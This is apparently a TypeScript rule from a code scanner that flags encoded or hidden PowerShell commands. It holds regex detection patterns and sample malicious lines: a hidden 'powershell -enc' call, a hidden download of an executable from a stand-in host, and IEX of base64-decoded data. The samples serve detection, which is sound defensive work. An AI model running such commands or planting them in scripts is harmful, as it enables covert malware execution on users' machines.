import type { FileCheck } from '../../check.ts';

const FORMS: readonly RegExp[] = [
  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,160}?\s-(?:e|en|enc|enco|encodedcommand)\s{1,4}["']?[A-Za-z0-9+/=]{24,}/gi,
  /\b(?:iex|invoke-expression)\b[^\n]{0,120}frombase64string\s{0,2}\([^\n]{0,40}/gi,
  /\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s-w(?:in|indowstyle)?\s{1,3}hidden\b[^\n]{0,160}(?:downloadstring|downloadfile|iex\b|invoke-expression|frombase64|invoke-webrequest|\biwr\b)/gi,
];

export const check: FileCheck = {
  id: 'rce-powershell-encoded',
  title: 'Runs an encoded or hidden PowerShell command',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The command is written so that neither a reader nor a filter sees what it does, often in a window nobody sees either.
    It is the usual way for malware on Windows to start.`,
  fix: 'Remove it. A script that has nothing to hide can stand in a file of its own.',
  blindSpots: 'A command that is put together from parts, or encoded at run time, is not recognised by its text.',
  wants: { keywords: ['powershell', 'pwsh', 'frombase64string'] },
  examples: {
    bad: [
      { 'run.js': "exec('«powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA»');\n" },
      {
        'a.bat': `«powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile»('https://c.example.net/a.exe', 'a.exe')"\n`,
      },
      { 'start.ps1': '«IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($data)))»\n' },
    ],
    good: [
      { 'ci.yml': 'run: powershell -ExecutionPolicy Bypass -File build.ps1\n' },
      {
        'decode.ps1':
          '$bytes = [Convert]::FromBase64String($env:CERTIFICATE)\n[IO.File]::WriteAllBytes("cert.pfx", $bytes)\n',
      },
      { 'doc.md': 'Use powershell -EncodedCommand <base64> only when you must.\n' },
    ],
  },

  *find({ windows }) {
    for (const window of windows) {
      for (const form of FORMS) {
        for (const match of window.text.matchAll(form)) {
          yield {
            at: window.span(match.index, match.index + match[0].trimEnd().length),
            message: 'PowerShell runs a command that is encoded or hidden from view.',
          };
        }
      }
    }
  },
};
